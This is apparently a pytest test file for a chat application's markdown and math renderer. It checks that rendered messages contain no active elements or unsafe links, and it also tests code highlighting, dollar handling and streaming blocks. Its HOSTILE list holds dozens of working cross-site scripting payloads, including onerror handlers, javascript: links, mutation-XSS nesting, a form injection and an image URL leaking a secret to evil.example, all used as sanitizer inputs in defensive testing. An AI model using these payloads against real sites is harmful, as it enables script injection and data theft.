"""Messages as HTML: markdown that people write looks right, and nothing in it can act."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from chats.rendering import blocks_of, rendered
from chats.rendering.markdown import TAGS

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<div style='background:url(//evil.example)'>x</div>",
    "</p></article></main><form action=//evil.example><input name=q>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.example/?q=secret)",
    '![x](https://evil.example/"onerror="alert(1))',
    "[![x](https://evil.example/i.png)](https://evil.example)",
    '[x](https://a.example "onmouseover=alert(1) x=")',
    "[x]: https://evil.example/i.png\n\n![x]",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script> |",
    "$$<script>alert(1)</script>$$",
    r"\(\text{<img src=x onerror=alert(1)>}\)",
    r"\(\href{javascript:alert(1)}{x}\)",
    r"\[\style{background:url(//evil.example)}{x}\]",
    r"\(\includegraphics{https://evil.example/i.png}\)",
    '<span class="math-place">0-0</span> $$x$$',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>\x00alert(1)",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<script>-->alert(1)",
    "# <script>alert(1)</script>\n\n- <b onclick=alert(1)>x</b>",
]
MATH = {
    *("math", "mrow", "mi", "mn", "mo", "mtext", "mspace", "mstyle", "mfrac", "msqrt", "mroot"),
    *("msub", "msup", "msubsup", "munder", "mover", "munderover", "mtable", "mtr", "mtd"),
}


class Elements(HTMLParser):
    """Every element and attribute that a browser would make of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


class TestHostileText:
    @pytest.mark.parametrize("text", HOSTILE)
    def test_makes_no_element_that_acts_or_loads(self, text: str):
        found = Elements(rendered(text))

        assert found.names <= TAGS | MATH
        names = {name for name, _ in found.attributes}
        assert not {name for name in names if name.startswith("on")}
        assert not names & {"src", "srcset", "style", "action", "formaction", "background", "id"}

    @pytest.mark.parametrize("text", HOSTILE)
    def test_links_nowhere_but_to_the_web_and_to_mail(self, text: str):
        found = Elements(rendered(text))

        links = [value for name, value in found.attributes if name == "href"]
        assert all(link.startswith(("https://", "http://", "mailto:")) for link in links)

    @pytest.mark.parametrize("text", HOSTILE)
    def test_streams_as_safely_as_it_stands(self, text: str):
        blocks, tail = blocks_of(text + "\n\nmore")

        for piece in [*(block.html for block in blocks), rendered(tail)]:
            assert Elements(piece).names <= TAGS | MATH

    @pytest.mark.parametrize(
        "text",
        ["[" * 200_000, "![" * 50_000, "<![CDATA[" * 20_000, "<a" * 90_000, "x" * 1_000_000],
        ids=["brackets", "pictures", "cdata", "tags", "length"],
    )
    def test_that_no_one_writes_is_shown_as_it_is(self, text: str):
        html = rendered(text)

        assert html.startswith('<p class="plain">')
        assert Elements(html).names == {"p"}

    def test_nested_deeper_than_anyone_reads_loses_no_word(self):
        assert "deep" in rendered(">" * 5_000 + " deep")


class TestMarkdown:
    def test_pictures_become_links(self):
        html = rendered("![a cat](https://cats.example/1.png)")

        assert '<a href="https://cats.example/1.png" rel="noopener noreferrer nofollow">' in html
        assert "a cat</a>" in html

    def test_code_is_coloured_where_its_language_is_known(self):
        html = rendered("```python\ndef f(): ...\n```")

        assert 'data-language="python"' in html
        assert '<span class="k">def</span>' in html

    def test_code_in_an_unknown_language_is_shown_as_it_is(self):
        html = rendered("```klingon\nnuqneH <b>\n```")

        assert "<code>nuqneH &lt;b&gt;</code>" in html

    def test_columns_are_aligned_without_styles(self):
        html = rendered("| a | b |\n|:--|--:|\n| 1 | 2 |")

        assert '<td class="align-left">1</td>' in html
        assert '<td class="align-right">2</td>' in html

    def test_the_same_text_gives_the_same_html(self):
        text = "# a\n\n- b\n\n$$c$$"

        assert rendered(text) == rendered(text)


class TestMath:
    @pytest.mark.parametrize("text", ["$$x^2$$", r"\(x^2\)", r"\[x^2\]", "$$\nx^2\n$$", "$x^2$"])
    def test_is_mathml(self, text: str):
        assert "<msup><mi>x</mi><mn>2</mn></msup>" in rendered(text)

    def test_may_hold_what_markdown_reads_otherwise(self):
        html = rendered("$$\na\n- b\n= c_1 * d_2 * e\n$$")

        assert "<math" in html
        assert "<h1>" not in html
        assert "<em>" not in html

    @pytest.mark.parametrize(
        "text", ["It costs $5, not $6.", "$5-$10 a day", "US$5 is C$7", "$HOME:$PATH", "a $ b $ c"]
    )
    def test_a_dollar_is_money(self, text: str):
        assert rendered(text) == f"<p>{text}</p>\n"

    def test_that_cannot_be_read_is_shown_as_written(self):
        html = rendered(r"$$\frac{1}{$$")

        assert r"\frac{1}{" in html
        assert "<math" not in html

    def test_in_code_is_code(self):
        assert "<math" not in rendered("`$$x$$`\n\n```\n\\(x\\)\n```")


class TestBlocks:
    def test_all_but_the_last_are_final(self):
        blocks, tail = blocks_of("# Title\n\nOne\ntwo\n\n- a\n- b\n\n```py\ncode\n\nmo")

        assert [block.source for block in blocks] == [
            "# Title\n\n",
            "One\ntwo\n\n",
            "- a\n- b\n\n",
        ]
        assert tail == "```py\ncode\n\nmo"

    def test_go_on_from_where_the_last_one_ended(self):
        text = "One\n\ntwo\n\nthree"
        first, _ = blocks_of(text[:8])

        following, tail = blocks_of(text, start=first[-1].end)

        assert [block.source for block in following] == ["two\n\n"]
        assert tail == "three"

    @pytest.mark.parametrize("line_end", ["\n", "\r\n", "\r", "\u2028\n"])
    def test_lose_no_character(self, line_end: str):
        text = line_end.join(["# a", "", "b", "c", "", "* d", "", "   e", "", "| f |", "|---|"])

        blocks, tail = blocks_of(text)

        assert "".join(block.source for block in blocks) + tail == text
